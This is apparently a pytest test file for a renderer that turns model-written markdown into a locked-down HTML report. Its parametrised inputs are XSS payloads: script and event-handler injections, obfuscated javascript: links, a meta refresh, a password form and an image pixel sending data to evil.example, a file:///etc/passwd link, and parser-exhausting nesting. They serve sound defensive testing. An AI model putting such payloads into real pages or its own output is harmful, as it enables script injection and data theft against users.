import re
from html.parser import HTMLParser

import pytest

from shared.domain.report_html import HTML_BEGINS, render_page

FACTS = {"document": "a.md", "cost_usd": None, "truncated": False}
ALLOWED = {
    *("html", "head", "meta", "title", "style", "body", "main", "footer", "table", "thead"),
    *("tbody", "tr", "th", "td", "p", "span", "a", "em", "strong", "code", "pre", "hr", "br"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote"),
}
ATTRIBUTES = {"href", "rel", "class", "charset", "name", "content", "http-equiv", "dir", "start"}


class Page(HTMLParser):
    """What a browser would find in the page."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(page.decode())
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def page(text: str, **facts: object) -> Page:
    return Page(render_page({**FACTS, **facts}, {}, text))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "a <b onclick='x()'>b</b>\n\n<iframe src='//evil.example'></iframe>",
        "</main></body><script>alert(1)</script>",
        "<!-- <script> --> <style>* {display: none}</style>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<form action='http://evil.example'><input name=password></form>",
        "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1)) [x](%6aavascript:alert(1)) [x](\x01javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd)",
        "[x](//evil.example/a) [x](/a) [x](a.html) <javascript:alert(1)>",
        "[x]\n\n[x]: javascript:alert(1)",
        "![pixel](https://evil.example/p.png?secret) ![x](data:image/png;base64,AA==)",
        "[![x](https://evil.example/p.png)](javascript:alert(1))",
        '[x](https://a.example "t\\"><script>alert(1)</script>")',
        '[x](https://a.example/"onmouseover="alert(1))',
        '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "# <script>alert(1)</script>\n\n`</code><script>alert(1)</script>`",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
        "<a href='javascript:alert(1)'>x</a>",
    ],
)
def test_nothing_of_a_models_text_becomes_markup_script_or_a_way_out(text: str) -> None:
    found = page(text)
    assert {tag for tag, _ in found.tags} <= ALLOWED
    for tag, attributes in found.tags:
        assert attributes.keys() <= ATTRIBUTES
        if tag == "a":
            assert re.match(r"https?://|mailto:", attributes["href"] or "")
            assert attributes["rel"] == "nofollow noopener noreferrer"
    assert [tag for tag, _ in found.tags].count("style") == 1
    assert [attributes.get("http-equiv") for _, attributes in found.tags].count(None) == (
        len(found.tags) - 1
    )


def test_the_page_says_that_nothing_may_run_or_be_loaded() -> None:
    policy = next(
        attributes["content"]
        for _, attributes in page("x").tags
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy is not None
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy


def test_a_link_says_where_it_leads() -> None:
    assert (
        "https://bank.example (evil.example)"
        in page("[https://bank.example](https://evil.example/login)").words
    )


def test_a_picture_becomes_its_description() -> None:
    assert "[picture: a <chart>]" in page("![a <chart>](https://a.example/c.png)").words


def test_markdown_becomes_a_page_with_the_facts_and_fields() -> None:
    text = "# Title\n\n- a\n- **b**\n\n| x | y |\n|---|---|\n| 1 | 2 |\n"
    made = render_page({**FACTS, "truncated": True}, {"score": 5, "parties": ["A & B"]}, text)
    assert made.startswith(HTML_BEGINS)
    shown = made.decode()
    for part in (
        "<h1>Title</h1>",
        "<strong>b</strong>",
        "<td>2</td>",
        "<th>score</th><td>5</td>",
        "[&quot;A &amp; B&quot;]",
        "The answer was cut short.",
        "<th>cost_usd</th><td>unknown</td>",
        "<title>a.md</title>",
    ):
        assert part in shown


def test_names_of_documents_and_values_of_fields_are_text() -> None:
    made = Page(
        render_page(
            {**FACTS, "document": "</title><script>x</script>"}, {"a": "<script>", "b": None}, "x"
        )
    )
    assert {tag for tag, _ in made.tags} <= ALLOWED


@pytest.mark.parametrize(
    "text", ["*a_ " * 20_000, "[" * 60_000, "> " * 40_000, "![" * 30_000, "|a" * 20_000 + "\n|-|"]
)
def test_hostile_nesting_ends(text: str) -> None:
    assert page(text).tags
